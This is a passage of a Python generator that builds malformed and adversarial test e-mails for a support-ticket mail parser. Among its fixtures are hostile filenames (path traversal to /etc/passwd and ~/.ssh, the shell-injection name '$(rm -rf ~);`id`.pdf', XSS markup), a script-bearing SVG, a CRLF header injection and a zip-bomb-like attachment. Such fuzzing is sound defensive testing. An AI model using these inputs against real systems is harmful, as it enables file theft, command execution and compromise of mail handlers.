        "mime-type-mismatch": _attachment('filename="photo.png"', _JPEG_HEAD, "image/png"),
        "name-only-on-content-type": _msg(
            [("Content-Type", 'application/pdf; name="only-name.pdf"'), ("Content-Transfer-Encoding", "base64")],
            _b64(_PDF),
        ),
        "zip-bomb-like": _attachment('filename="logs.zip"', zlib.compress(b"\x00" * 5_000_000, 9), "application/zip"),
        "calendar-invite": _msg(
            [("Content-Type", "text/calendar; method=REQUEST; charset=utf-8"), ("Content-Transfer-Encoding", "7bit")],
            _lines(
                "BEGIN:VCALENDAR",
                "METHOD:REQUEST",
                "BEGIN:VEVENT",
                "SUMMARY:License review",
                "DTSTART:20261203T090000Z",
                "END:VEVENT",
                "END:VCALENDAR",
            ),
        ),
        "signed-smime": _msg(
            [
                ("Content-Type", 'application/pkcs7-signature; name="smime.p7s"'),
                ("Content-Disposition", 'attachment; filename="smime.p7s"'),
                ("Content-Transfer-Encoding", "base64"),
            ],
            _b64(b"\x30\x82\x05" + _rand(36, 800)),
        ),
        "encrypted-pgp": _msg([("Content-Type", "application/pgp-encrypted")], b"Version: 1\r\n"),
    }
    for label, att in octet.items():
        n = f"{fam}/{label}"
        c.add(n, _with_attachment(n, "Attachment oddity", att))
    n = f"{fam}/only-attachment-no-text"
    c.add(
        n,
        _msg(
            _std(
                n,
                "",
                ctype="application/pdf; name=scan.pdf",
                cte="base64",
                extra=[("Content-Disposition", 'attachment; filename="scan.pdf"')],
            ),
            _b64(_PDF),
        ),
    )


def _filename_2231(c: _Corpus) -> None:
    params: dict[str, str | bytes] = {
        "encoded-utf8": "filename*=UTF-8''%C3%A5rsrapport%202026.pdf",
        "encoded-latin1-lang": "filename*=iso-8859-1'sv'%E5rsrapport.pdf",
        "encoded-koi8r": "filename*=koi8-r''%F0%D2%CF%C2%CC%C5%CD%C1.txt",
        "encoded-shift-jis": "filename*=shift_jis''%83%89%83C%83Z%83%93%83X.pdf",
        "continuations-plain": 'filename*0="very_long_file_name_part_one_"; filename*1="part_two.pdf"',
        "continuations-encoded": "filename*0*=UTF-8''%C3%A5rs; filename*1*=rapport%20; filename*2=\"2026.pdf\"",
        "continuations-out-of-order": 'filename*1="second.pdf"; filename*0="first_"',
        "continuations-gap": 'filename*0="first_"; filename*2="third.pdf"',
        "continuations-duplicate-index": 'filename*0="a_"; filename*0="b_"; filename*1="c.pdf"',
        "continuations-100": "; ".join(f'filename*{i}="p{i:03d}_"' for i in range(100)) + '; filename*100=".pdf"',
        "continuations-leading-zero": 'filename*00="a_"; filename*01="b.pdf"',
        "bad-charset": "filename*=x-bogus''r%E4pport.pdf",
        "bad-percent": "filename*=UTF-8''%ZZ%C3.pdf%",
        "invalid-utf8": "filename*=UTF-8''%FF%FE%C3.pdf",
        "single-quote": "filename*=UTF-8'rapport.pdf",
        "no-quotes": "filename*=rapport%20final.pdf",
        "language-no-charset": "filename*='en'report.pdf",
        "empty-value": "filename*=UTF-8''",
        "both-differ": "filename=\"report.pdf\"; filename*=UTF-8''invoice.exe",
        "rfc2047-in-filename": 'filename="=?UTF-8?B?w6Vyc3JhcHBvcnQucGRm?="',
        "rfc2047-split": 'filename="=?UTF-8?Q?=C3=A5rs?= =?UTF-8?Q?rapport.pdf?="',
        "raw-8bit-utf8": 'filename="årsrapport.pdf"'.encode(),
        "raw-8bit-latin1": 'filename="årsrapport.pdf"'.encode("latin-1"),
        "unquoted-with-spaces": "filename=my report final.pdf",
        "utf-16-charset": "filename*=utf-16''%FF%FEa%00b%00.%00p%00d%00f%00",
        "encoded-crlf": "filename*=UTF-8''a%0D%0AContent-Type%3A%20text%2Fhtml.pdf",
        "huge-10k": "filename*=UTF-8''" + "%C3%A5" * 3400 + ".pdf",
    }
    for label, param in params.items():
        n = f"filename-2231/{label}"
        c.add(n, _with_attachment(n, "Report attached", _attachment(param, _PDF)))
    n = "filename-2231/name-param-on-content-type"
    c.add(
        n,
        _with_attachment(
            n,
            "Report attached",
            _attachment("filename*=UTF-8''x.pdf", _PDF, "application/pdf; name*=UTF-8''%C3%A5r.pdf; name*0=\"other\""),
        ),
    )


_EVIL_NAMES: dict[str, bytes] = {
    "dotdot-unix": b"../../etc/passwd",
    "dotdot-deep": b"../" * 40 + b"etc/passwd",
    "dotdot-windows": b"..\\..\\win.ini",
    "dotdot-mixed": b"..//..\\/..\\etc/passwd",
    "absolute-unix": b"/etc/shadow",
    "absolute-windows": b"C:\\x",
    "absolute-windows-forward": b"C:/Windows/System32/drivers/etc/hosts",
    "unc-path": b"\\\\server\\share\\payload.exe",
    "drive-relative": b"C:x.txt",
    "url-encoded-traversal": b"%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "nul-byte": b"invoice.pdf\x00.exe",
    "nul-only": b"\x00",
    "control-chars": b"a\x01\x07\x1b[31mred.txt",
    "long-300": b"a" * 296 + b".pdf",
    "long-300-utf8": "å".encode() * 296 + b".pdf",
    "long-5000": b"b" * 4996 + b".txt",
    "dots-1": b".",
    "dots-2": b"..",
    "dots-3": b"...",
    "dots-40": b"." * 40,
    "empty": b"",
    "spaces-only": b"   ",
    "trailing-dot-space": b"report.pdf. . ",
    "double-extension": b"invoice.pdf.exe",
    "rtl-override": "invoice\u202efdp.exe".encode(),
    "zero-width": "inv\u200boice\ufeff.pdf".encode(),
    "windows-reserved": b"CON",
    "windows-reserved-ext": b"aux.txt",
    "dev-null": b"/dev/null",
    "proc-self": b"/proc/self/environ",
    "slash-only": b"/",
    "backslash-only": b"\\",
    "tilde-home": b"~/.ssh/authorized_keys",
    "hidden-dotfile": b".htaccess",
    "colon-ads": b"report.txt:hidden.exe",
    "wildcards": b"*?<>|.txt",
    "html-in-name": b"<img src=x onerror=alert(1)>.pdf",
    "shell-meta": b"$(rm -rf ~);`id`.pdf",
    "newline-in-name": b"a\nb.pdf",
}


def _quote(value: bytes) -> bytes:
    return b'"' + value.replace(b"\\", b"\\\\").replace(b'"', b'\\"') + b'"'


def _pct(value: bytes) -> str:
    return "".join(chr(c) if chr(c).isascii() and (chr(c).isalnum() or chr(c) in "-_.") else f"%{c:02X}" for c in value)


def _filename_evil(c: _Corpus) -> None:
    for label, name in _EVIL_NAMES.items():
        data = b"payload for " + label.encode() + CRLF
        if b"\n" not in name:
            n = f"filename-evil/{label}-raw"
            c.add(
                n,
                _with_attachment(
                    n,
                    "Files attached",
                    _attachment(b'filename="' + name + b'"', data, b'application/octet-stream; name="' + name + b'"'),
                ),
            )
            n = f"filename-evil/{label}-quoted"
            c.add(
                n,
                _with_attachment(
                    n, "Files attached", _attachment(b"filename=" + _quote(name), data, "application/octet-stream")
                ),
            )
        n = f"filename-evil/{label}-rfc2231"
        c.add(
            n,
            _with_attachment(
                n,
                "Files attached",
                _attachment(
                    "filename*=UTF-8''" + _pct(name), data, "application/octet-stream; name*=UTF-8''" + _pct(name)
                ),
            ),
        )
    n = "filename-evil/all-in-one"
    atts = [
        _attachment("filename*=UTF-8''" + _pct(name), label.encode(), "application/octet-stream")
        for label, name in _EVIL_NAMES.items()
    ]
    c.add(
        n,
        _msg(
            _std(n, "Many files", ctype='multipart/mixed; boundary="=_evil"', cte=None),
            _multipart("=_evil", [_text_part(_text(n)), *atts]),
        ),
    )
    n = "filename-evil/same-name-twice"
    c.add(
        n,
        _msg(
            _std(n, "Two files, one name", ctype='multipart/mixed; boundary="=_dup"', cte=None),
            _multipart(
                "=_dup",
                [
                    _text_part(_text(n)),
                    _attachment('filename="log.txt"', b"first\r\n"),
                    _attachment('filename="log.txt"', b"second\r\n"),
                    _attachment('filename="LOG.TXT"', b"third\r\n"),
                ],
            ),
        ),
    )


def _inline(c: _Corpus) -> None:
    png = _b64(_png())

    def img(cid: str | None, *, disposition: str = "inline", ctype: str = "image/png", data: bytes = png) -> bytes:
        hdrs: list[Header] = [("Content-Type", f'{ctype}; name="logo.png"'), ("Content-Transfer-Encoding", "base64")]
        if cid is not None:
            hdrs.append(("Content-ID", cid))
        if disposition:
            hdrs.append(("Content-Disposition", f'{disposition}; filename="logo.png"'))
        return _msg(hdrs, data)

    def related(name: str, html: str, images: list[bytes], subject: str = "Screenshot inline") -> None:
        parts = [_msg([("Content-Type", "text/html; charset=utf-8")], html.encode() + CRLF), *images]
        body = _multipart("=_rel", parts)
        c.add(
            name,
            _msg(_std(name, subject, ctype='multipart/related; boundary="=_rel"; type="text/html"', cte=None), body),
        )

    related("inline/cid-image", '<p>See:</p><img src="cid:logo@customer-ab.se">', [img("<logo@customer-ab.se>")])
    related("inline/cid-no-angle-brackets", '<img src="cid:logo@x">', [img("logo@x")])
    related("inline/cid-duplicate", '<img src="cid:a@x"><img src="cid:a@x">', [img("<a@x>"), img("<a@x>")])
    related("inline/cid-missing-part", '<img src="cid:nothere@x">', [])
    related("inline/cid-unreferenced", "<p>no images referenced</p>", [img("<unused@x>")])
    related("inline/no-content-id", '<img src="logo.png">', [img(None)])
    related("inline/cid-weird-chars", '<img src="cid:%3Cscript%3E@x">', [img('<"><script>alert(1)</script>@x>')])
    related("inline/cid-case-differs", '<img src="CID:Logo@X">', [img("<logo@x>")])
    related("inline/type-mismatch", '<img src="cid:j@x">', [img("<j@x>", data=_b64(_JPEG_HEAD))])
    related(
        "inline/tracking-gif",
        '<img src="cid:t@x" width=1 height=1>',
        [img("<t@x>", ctype="image/gif", data=_b64(_GIF_1X1))],
    )
    related(
        "inline/svg-with-script",
        '<img src="cid:s@x">',
        [
            img(
                "<s@x>",
                ctype="image/svg+xml",
                data=_b64(b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'),
            )
        ],
    )
    related("inline/disposition-attachment-with-cid", '<img src="cid:d@x">', [img("<d@x>", disposition="attachment")])
    n = "inline/outlook-alternative-in-related"
    alt = _multipart(
        "=_alt",
        [
            _text_part(b"[image: logo]\r\n"),
            _msg([("Content-Type", "text/html; charset=utf-8")], b'<img src="cid:o@x">\r\n'),
        ],
    )
    rel = _multipart("=_rel", [_msg([("Content-Type", 'multipart/alternative; boundary="=_alt"')], alt), img("<o@x>")])
    mixed = _multipart(
        "=_mix",
        [_msg([("Content-Type", 'multipart/related; boundary="=_rel"')], rel), _attachment('filename="a.pdf"', _PDF)],
    )
    c.add(n, _msg(_std(n, "Outlook layout", ctype='multipart/mixed; boundary="=_mix"', cte=None), mixed))


def _forward(name: str, inner: bytes, subject: str = "Fwd: original message", boundary: str = "=_fwd") -> bytes:
    body = _multipart(
        boundary,
        [
            _text_part(b"Forwarding the message below.\r\n"),
            _msg(
                [("Content-Type", "message/rfc822"), ("Content-Disposition", 'attachment; filename="forwarded.eml"')],
                inner,
            ),
        ],
    )
    return _msg(_std(name, subject, ctype=f'multipart/mixed; boundary="{boundary}"', cte=None), body)


def _rfc822(c: _Corpus) -> None:
    inner = _msg(
        _std("rfc822/inner", "License server down", sender=("Jonas Berg", "jonas@berg-konsult.se")),
        _text("rfc822/inner"),
    )
    n = "rfc822/attached"
    c.add(n, _forward(n, inner))
    for depth in (10, 11, 50):
        n = f"rfc822/nested-{depth}"
        msg = inner
        for level in range(depth):
            msg = _forward(f"{n}/{level}", msg, "Fwd: " * min(level + 1, 5) + "License", f"=_fwd{level}")
        c.add(n, msg)
    garbage: dict[str, bytes] = {
        "garbage-random": _rand(41, 5000),
        "garbage-zeros": b"\x00" * 4096,
        "garbage-text": b"this is not a message at all, no headers, just words\r\n" * 20,
        "empty": b"",
        "headers-only": _head(_std("rfc822/ho", "headers only")),
        "truncated": inner[: len(inner) // 2],
        "broken-multipart-inside": _msg(
            _std("rfc822/bm", "inner", ctype='multipart/mixed; boundary="x"', cte=None),
            b"--x\r\nContent-Type: text/plain\r\n\r\nunclosed",
        ),
    }
    for label, data in garbage.items():
        n = f"rfc822/{label}"
        c.add(n, _forward(n, data))
    n = "rfc822/top-level"
    c.add(n, _msg(_std(n, "Whole message is message/rfc822", ctype="message/rfc822", cte=None), inner))
    n = "rfc822/as-octet-stream-eml"
    c.add(
        n,
        _with_attachment(
            n, "Forwarded as .eml", _attachment('filename="original.eml"', inner, "application/octet-stream")
        ),
    )
    n = "rfc822/base64-encoded"
    c.add(
        n,
        _with_attachment(
            n,
            "message/rfc822 base64",
            _msg([("Content-Type", "message/rfc822"), ("Content-Transfer-Encoding", "base64")], _b64(inner)),
        ),
    )
    n = "rfc822/message-partial"
    c.add(
        n, _msg(_std(n, "Part 1 of 3", ctype='message/partial; id="abc@x"; number=1; total=3', cte=None), inner[:200])
    )
    n = "rfc822/message-external-body"
    c.add(
        n,
        _msg(
            _std(
                n, "External body", ctype='message/external-body; access-type=URL; URL="file:///etc/passwd"', cte=None
            ),
            _lines("Content-Type: text/plain", "", ""),
        ),
    )
    n = "rfc822/text-rfc822-headers"
    c.add(
        n,
        _with_attachment(
            n, "Headers only", _msg([("Content-Type", "text/rfc822-headers")], _head(_std("rfc822/h", "orig")))
        ),
    )
    n = "rfc822/global-utf8"
    glob = _msg(
        [
            ("From", "Åsa <åsa@exämple.se>".encode()),
            ("To", SUPPORT),
            ("Subject", "Årsrapport".encode()),
            ("Content-Type", "text/plain; charset=utf-8"),
        ],
        SV.encode() + CRLF,
    )
    c.add(n, _with_attachment(n, "message/global", _msg([("Content-Type", "message/global")], glob)))


def _tnef_attr(level: int, attr_id: int, data: bytes, *, bad_checksum: bool = False) -> bytes:
    checksum = (sum(data) + (1 if bad_checksum else 0)) & 0xFFFF
    return struct.pack("<BII", level, attr_id, len(data)) + data + struct.pack("<H", checksum)


def _tnef(*, bad_checksum: bool = False, attachments: int = 1) -> bytes:
    out = struct.pack("<IH", 0x223E9F78, 0x0A1B)
    out += _tnef_attr(1, 0x00089006, struct.pack("<I", 0x00010000))  # attTnefVersion
    out += _tnef_attr(1, 0x00069007, struct.pack("<II", 1252, 0))  # attOemCodepage
    out += _tnef_attr(1, 0x00078008, b"IPM.Microsoft Mail.Note\x00")  # attMessageClass
    out += _tnef_attr(1, 0x00018004, b"License report\x00")  # attSubject
    for i in range(attachments):
        out += _tnef_attr(2, 0x00069002, struct.pack("<HIHHI", 1, 0xFFFFFFFF, 0, 0, 0))  # attAttachRenddata
        out += _tnef_attr(2, 0x00018010, f"report-{i}.txt\x00".encode())  # attAttachTitle
        out += _tnef_attr(2, 0x0006800F, b"lmgrd: vendor daemon down\r\n" * 10, bad_checksum=bad_checksum)
    return out


def _tnef_family(c: _Corpus) -> None:
    good = _tnef()
    variants: dict[str, tuple[str, bytes]] = {
        "winmail-dat": ('application/ms-tnef; name="winmail.dat"', good),
        "winmail-vnd-type": ('application/vnd.ms-tnef; name="winmail.dat"', good),
        "winmail-octet-stream": ('application/octet-stream; name="winmail.dat"', good),
        "winmail-three-files": ('application/ms-tnef; name="winmail.dat"', _tnef(attachments=3)),
        "winmail-truncated": ('application/ms-tnef; name="winmail.dat"', good[: len(good) // 2]),
        "winmail-bad-checksum": ('application/ms-tnef; name="winmail.dat"', _tnef(bad_checksum=True)),
        "winmail-huge-length": (
            'application/ms-tnef; name="winmail.dat"',
            good[:6] + struct.pack("<BII", 1, 0x00089006, 0xFFFFFFF0) + b"\x00" * 16,
        ),
        "winmail-garbage": ('application/ms-tnef; name="winmail.dat"', _rand(51, 2048)),
        "winmail-empty": ('application/ms-tnef; name="winmail.dat"', b""),
    }
    for label, (ctype, data) in variants.items():
        n = f"tnef/{label}"
        att = _msg(
            [
                ("Content-Type", ctype),
                ("Content-Disposition", 'attachment; filename="winmail.dat"'),
                ("Content-Transfer-Encoding", "base64"),
            ],
            _b64(data),
        )
        c.add(n, _with_attachment(n, "Report (Outlook)", att))
    n = "tnef/only-tnef"
    c.add(n, _msg(_std(n, "Report", ctype='application/ms-tnef; name="winmail.dat"', cte="base64"), _b64(good)))


def _auto_replies(c: _Corpus) -> None:
    case_subject = "[PLM-000123] License server down"
    variants: dict[str, tuple[str | bytes, list[Header]]] = {
        "auto-submitted-auto-replied": ("Automatic reply: " + case_subject, [("Auto-Submitted", "auto-replied")]),
        "auto-submitted-auto-generated": ("Notification", [("Auto-Submitted", "auto-generated")]),
        "auto-submitted-vacation-comment": ("Re: " + case_subject, [("Auto-Submitted", "auto-replied (vacation)")]),
        "auto-submitted-uppercase": ("Re: " + case_subject, [("AUTO-SUBMITTED", "Auto-Replied")]),
        "auto-submitted-no": ("Re: " + case_subject, [("Auto-Submitted", "no")]),
        "x-autoreply-yes": ("Re: " + case_subject, [("X-Autoreply", "yes")]),
        "x-autorespond": ("Autosvar: " + case_subject, [("X-Autorespond", "Autosvar")]),
        "x-autogenerated-reply": ("Re: " + case_subject, [("X-AutoGenerated", "Reply")]),
        "precedence-bulk": ("Re: " + case_subject, [("Precedence", "bulk")]),
        "precedence-list": ("Re: " + case_subject, [("Precedence", "list")]),
        "precedence-junk": ("Re: " + case_subject, [("Precedence", "junk")]),
        "precedence-auto-reply": ("Re: " + case_subject, [("Precedence", "auto_reply")]),
        "exchange-oof": (
            "Automatic reply: " + case_subject,
            [
                ("X-MS-Exchange-Inbox-Rules-Loop", "anna.lindqvist@customer-ab.se"),
                ("X-Auto-Response-Suppress", "All"),
                ("Auto-Submitted", "auto-generated"),
            ],
        ),
        "x-loop": ("Re: " + case_subject, [("X-Loop", SUPPORT)]),
        "subject-out-of-office": ("Out of Office: " + case_subject, []),
        "subject-out-of-office-autoreply": ("Out of Office AutoReply: " + case_subject, []),
        "subject-ooo-lowercase": ("out of office until 2026-12-07", []),
        "subject-automatic-reply": ("Automatic reply: " + case_subject, []),
        "subject-frånvaro-8bit": (("Frånvaro: " + case_subject).encode(), []),
        "subject-autosvar-encoded": (_ew("Automatiskt svar: " + case_subject, "utf-8"), []),
        "subject-abwesenheitsnotiz": (_ew("Abwesenheitsnotiz: " + case_subject, "iso-8859-1"), []),
        "subject-reponse-automatique": (_ew("Réponse automatique : " + case_subject, "utf-8", mode="Q"), []),
        "subject-poissaolo": ("Poissa: " + case_subject, []),
        "return-path-null": ("Re: " + case_subject, [("Return-Path", "<>")]),
        "list-unsubscribe-plus-auto": (
            "Your ticket has been received",
            [("Auto-Submitted", "auto-generated"), ("List-Unsubscribe", "<mailto:u@x>")],
        ),
        "ticket-system-ack": (
            "[#98765] Request received: " + case_subject,
            [("X-Mailer", "Zendesk"), ("Auto-Submitted", "auto-generated")],
        ),
    }
    for label, (subject, extra) in variants.items():
        n = f"auto-reply/{label}"
        hdrs = [(k, v) for k, v in _std(n, subject, omit=[h for h, _ in extra if h.lower() == "return-path"])]
        hdrs += extra
        body = _lines(
            "I am out of the office until 7 December with limited access to e-mail.",
            "For urgent matters contact jonas@customer-ab.se.",
        )
        c.add(n, _msg(hdrs, body))


def _original_outgoing() -> bytes:
    return _msg(
        [
            ("From", "PLM Support <support@plmgroup.se>"),
            ("To", "Anna Lindqvist <anna.lindqvist@customer-ab.se>"),
            ("Subject", "[PLM-000123] License server down"),
            ("Date", "Mon, 30 Nov 2026 10:00:00 +0100"),
            ("Message-ID", "<case-000123.7@plmgroup.se>"),
            ("MIME-Version", "1.0"),
            ("Content-Type", "text/plain; charset=us-ascii"),
        ],
        _lines("Hello Anna,", "", "please restart lmgrd with -z and send us the log.", "", "PLM Support"),
    )


def _bounces(c: _Corpus) -> None:
    original = _original_outgoing()
    headers_only = original.split(CRLF + CRLF, 1)[0] + CRLF

    def status(action: str = "failed", code: str = "5.1.1", recipients: int = 1) -> bytes:
        out = _lines("Reporting-MTA: dns; mx.customer-ab.se", "Arrival-Date: Mon, 30 Nov 2026 10:00:05 +0100", "")
        for i in range(recipients):
            addr = "anna.lindqvist@customer-ab.se" if i == 0 else f"user{i}@customer-ab.se"
            out += _lines(
                f"Final-Recipient: rfc822; {addr}",
                f"Original-Recipient: rfc822;{addr}",
                f"Action: {action}",
                f"Status: {code}",
                "Remote-MTA: dns; mail.customer-ab.se",
                f"Diagnostic-Code: smtp; 550 {code} <{addr}>: Recipient address rejected",
                "",
            )
        return out

    human = _text_part(
        _lines(
            "This is the mail system at host mx.customer-ab.se.",
            "",
            "I'm sorry to have to inform you that your message could not",
            "be delivered to one or more recipients.",
        )
    )

    def report(
        name: str,
        parts: list[bytes],
        *,
        subject: str = "Undelivered Mail Returned to Sender",
        ctype: str = 'multipart/report; report-type=delivery-status; boundary="=_dsn"',
        return_path: str = "<>",
    ) -> None:
        hdrs = _std(
            name, subject, ctype=ctype, cte=None, sender=("Mail Delivery System", "MAILER-DAEMON@mx.customer-ab.se")
        )
        hdrs = [(k, return_path if k == "Return-Path" else v) for k, v in hdrs]
        hdrs.append(("Auto-Submitted", "auto-replied"))
        c.add(name, _msg(hdrs, _multipart("=_dsn", parts)))

    ds = [("Content-Type", "message/delivery-status")]
    report(
        "bounce/dsn-with-original", [human, _msg(ds, status()), _msg([("Content-Type", "message/rfc822")], original)]
    )
    report(
        "bounce/dsn-with-headers-only",
        [human, _msg(ds, status()), _msg([("Content-Type", "text/rfc822-headers")], headers_only)],
    )
    report("bounce/dsn-no-original", [human, _msg(ds, status())])
    report(
        "bounce/dsn-delayed",
        [human, _msg(ds, status("delayed", "4.4.7"))],
        subject="Delayed Mail (still being retried)",
    )
    report("bounce/dsn-50-recipients", [human, _msg(ds, status(recipients=50))])
    report("bounce/dsn-garbage-status", [human, _msg(ds, _rand(61, 600))])
    report("bounce/dsn-no-report-type", [human, _msg(ds, status())], ctype='multipart/report; boundary="=_dsn"')
    report(
        "bounce/dsn-original-garbage",
        [human, _msg(ds, status()), _msg([("Content-Type", "message/rfc822")], _rand(62, 1500))],
    )
    report("bounce/dsn-return-path-present", [human, _msg(ds, status())], return_path="<bounces@mx.customer-ab.se>")
    report(
        "bounce/dsn-global-utf8",
        [
            human,
            _msg(
                [("Content-Type", "message/global-delivery-status")],
                status().replace(b"anna.lindqvist", "åsa".encode()),
            ),
        ],
    )
    report(
        "bounce/exchange-ndr",
        [
            _msg(
                [("Content-Type", "text/html; charset=us-ascii")],
                b"<p><b>Your message to anna.lindqvist@customer-ab.se couldn't be delivered.</b></p>\r\n",
            ),
            _msg(ds, status()),
            _msg([("Content-Type", "message/rfc822")], original),
        ],
        subject="Undeliverable: [PLM-000123] License server down",
    )
    report(
        "bounce/mdn-read-receipt",
        [
            _text_part(b"The message was displayed on the recipient's computer.\r\n"),
            _msg(
                [("Content-Type", "message/disposition-notification")],
                _lines(
                    "Reporting-UA: customer-ab.se; Outlook",
                    "Final-Recipient: rfc822;anna.lindqvist@customer-ab.se",
                    "Original-Message-ID: <case-000123.7@plmgroup.se>",
                    "Disposition: manual-action/MDN-sent-manually; displayed",
                ),
            ),
        ],
        subject="Read: [PLM-000123] License server down",
        ctype='multipart/report; report-type=disposition-notification; boundary="=_dsn"',
        return_path="<>",
    )
    report(
        "bounce/arf-abuse-report",
        [
            _text_part(b"This is an abuse report.\r\n"),
            _msg(
                [("Content-Type", "message/feedback-report")],
                _lines("Feedback-Type: abuse", "User-Agent: ExampleFBL/1.0", "Version: 1"),
            ),
            _msg([("Content-Type", "message/rfc822")], original),
        ],
        subject="Abuse report",
        ctype='multipart/report; report-type=feedback-report; boundary="=_dsn"',
    )

    n = "bounce/qmail-plain-text"
    hdrs = _std(n, "failure notice", sender=("", "MAILER-DAEMON@mx.customer-ab.se"))
    body = (
        _lines(
            "Hi. This is the qmail-send program at mx.customer-ab.se.",
            "I'm afraid I wasn't able to deliver your message to the following addresses.",
            "",
            "<anna.lindqvist@customer-ab.se>:",
            "Sorry, no mailbox here by that name. (#5.1.1)",
            "",
            "--- Below this line is a copy of the message.",
            "",
        )
        + original
    )
    c.add(n, _msg(hdrs, body))
    n = "bounce/postmaster-no-auto-headers"
    c.add(
        n,
        _msg(
            _std(n, "Returned mail: see transcript for details", sender=("Postmaster", "postmaster@customer-ab.se")),
            _lines(
                "----- The following addresses had permanent fatal errors -----",
                "<anna.lindqvist@customer-ab.se>",
                "",
                "----- Original message -----",
            )
            + headers_only,
        ),
    )
    n = "bounce/mailbox-full-with-original-attached-as-eml"
    c.add(
        n,
        _with_attachment(
            n, "Mail delivery failed: mailbox full", _attachment('filename="original.eml"', original, "message/rfc822")
        ),
    )


def _lists(c: _Corpus) -> None:
    variants: dict[str, tuple[str, list[Header]]] = {
        "list-id": ("[users] Anyone else seeing LM-0042?", [("List-Id", "PLM users <users.lists.plmgroup.se>")]),
        "list-unsubscribe-mailto": ("Weekly digest", [("List-Unsubscribe", "<mailto:leave-users@lists.example>")]),
        "list-unsubscribe-https-post": (
            "Product news November",
            [
                ("List-Unsubscribe", "<https://news.example/u?id=8c1f>, <mailto:unsub@news.example>"),
                ("List-Unsubscribe-Post", "List-Unsubscribe=One-Click"),
                ("Precedence", "bulk"),
            ],
        ),
        "mailman-full": (
            "[cad-users] License server question",
            [
                ("List-Id", "CAD users <cad-users.lists.example.org>"),
                ("List-Post", "<mailto:cad-users@lists.example.org>"),
                ("List-Help", "<mailto:cad-users-request@lists.example.org?subject=help>"),
                ("List-Archive", "<https://lists.example.org/archives/cad-users>"),
                ("List-Subscribe", "<mailto:cad-users-request@lists.example.org?subject=subscribe>"),
                ("Sender", "cad-users-bounces@lists.example.org"),
                ("Precedence", "list"),
                ("Errors-To", "cad-users-bounces@lists.example.org"),
            ],
        ),
        "google-groups": (
            "Licens?",
            [
                ("Mailing-list", "list cad@googlegroups.com; contact cad+owners@googlegroups.com"),
                ("List-Id", "<cad.googlegroups.com>"),
                ("X-Google-Group-Id", "123456"),
            ],
        ),
        "list-id-no-brackets": ("List without brackets", [("List-Id", "users.lists.example")]),
        "list-id-encoded": ("Encoded list name", [("List-Id", _ew("Användare", "utf-8") + " <anv.lists.example>")]),
        "support-cc-on-list": ("[dev] release plan", [("List-Id", "<dev.lists.customer-ab.se>"), ("Cc", SUPPORT)]),
        "esp-newsletter": (
            "Black Friday: 50% off",
            [
                ("List-Unsubscribe", "<https://esp.example/u/abc>"),
                ("Feedback-ID", "123:456:esp"),
                ("X-Campaign", "bf2026"),
                ("Precedence", "bulk"),
            ],
        ),
    }
    for label, (subject, extra) in variants.items():
        n = f"list/{label}"
        body = _text(n, "", "--", "You are subscribed to this list. To unsubscribe, visit https://lists.example/u")
        c.add(n, _msg(_std(n, subject, extra=extra), body))


def _replies(c: _Corpus) -> None:
    refs: dict[str, list[Header]] = {
        "in-reply-to-unknown": [("In-Reply-To", "<does-not-exist-4711@customer-ab.se>")],
        "references-unknown": [("References", "<unknown-1@x.example> <unknown-2@x.example>")],
        "both-unknown": [
            ("In-Reply-To", "<u3@x.example>"),
            ("References", "<u1@x.example> <u2@x.example> <u3@x.example>"),
        ],
        "in-reply-to-multiple": [("In-Reply-To", "<a@x.example> <case-000123.7@plmgroup.se>")],
        "in-reply-to-no-brackets": [("In-Reply-To", "case-000123.7@plmgroup.se")],
        "in-reply-to-garbage": [("In-Reply-To", "your message of Monday")],
        "in-reply-to-empty": [("In-Reply-To", "")],
        "in-reply-to-with-comment": [("In-Reply-To", '<case-000123.7@plmgroup.se> (Anna\'s message of "Mon")')],
        "in-reply-to-own-message-id": [("In-Reply-To", _msgid("reply/in-reply-to-own-message-id"))],
        "references-no-brackets": [("References", "a@x.example b@x.example case-000123.7@plmgroup.se")],
        "references-commas": [("References", "<a@x.example>,<b@x.example>,<case-000123.7@plmgroup.se>")],
        "references-nested-brackets": [("References", "<<a@x.example>> <b@<x>.example>")],
        "references-unterminated": [("References", "<a@x.example> <case-000123.7@plmgroup.se")],
        "references-no-at": [("References", "<just-a-token> <another>")],
        "references-8bit": [("References", "<åäö@exämple.se> <case-000123.7@plmgroup.se>".encode())],
        "references-id-10k": [("References", "<" + "x" * 10000 + "@x.example>")],
        "references-500": [
            ("References", "\r\n ".join(f"<msg-{i:04d}.{i * 7919 % 10007}@customer-ab.se>" for i in range(500)))
        ],
        "references-500-unfolded": [
            ("References", " ".join(f"<m{i}@x.example>" for i in range(499)) + " <case-000123.7@plmgroup.se>")
        ],
        "references-5000": [("References", "\r\n ".join(f"<m{i}@x.example>" for i in range(5000)))],
        "references-duplicate-headers": [
            ("References", "<a@x.example>"),
            ("References", "<case-000123.7@plmgroup.se>"),
        ],
        "known-and-unknown": [
            ("In-Reply-To", "<case-000123.7@plmgroup.se>"),
            ("References", "<unknown@x.example> <case-000123.7@plmgroup.se>"),
        ],
        "thread-index-outlook": [("Thread-Index", "AdlGx2E5v9aVx3EERd6M1w=="), ("Thread-Topic", "License server down")],
    }
    for label, extra in refs.items():
        n = f"reply/{label}"
        c.add(n, _msg(_std(n, "Re: License server down", extra=extra), _text(n, "", "> Please restart lmgrd with -z.")))
    n = "reply/no-message-id-with-references"
    c.add(
        n,
        _msg(
            _std(
                n,
                "Re: License server down",
                omit=["Message-ID"],
                extra=[("In-Reply-To", "<case-000123.7@plmgroup.se>")],
            ),
            _text(n),
        ),
    )
    n = "reply/deep-quote"
    quoted = b"".join(b"> " * d + b"quoted line at depth " + str(d).encode() + CRLF for d in range(1, 200))
    c.add(n, _msg(_std(n, "Re: Re: Re: License", extra=[("In-Reply-To", "<u@x.example>")]), _text(n) + quoted))


def _case_refs(c: _Corpus) -> None:
    subjects: dict[str, str | bytes] = {
        "re-bracket": "Re: [PLM-000123] License server down",
        "bracket-no-re": "[PLM-000123] License server down",
        "re-sv-aw-fwd-chain": "RE: SV: AW: Fwd: VS: [PLM-000123] License server down",
        "sv": "SV: [PLM-000123] Licensservern",
        "fwd": "Fwd: [PLM-000123] License server down",
        "re-re-re-colons": "Re:Re:Re: [PLM-000123]",
        "bare-number": "Re: PLM-000123 license",
        "lowercase": "re: [plm-000123] license",
        "spaces-inside": "Re: [ PLM - 000123 ] license",
        "short-number": "Re: [PLM-123] license",
        "overlong-number": "Re: [PLM-00012345678901234567890] license",
        "zero-number": "Re: [PLM-000000] license",
        "two-cases": "Re: [PLM-000123] merged into [PLM-000456]",
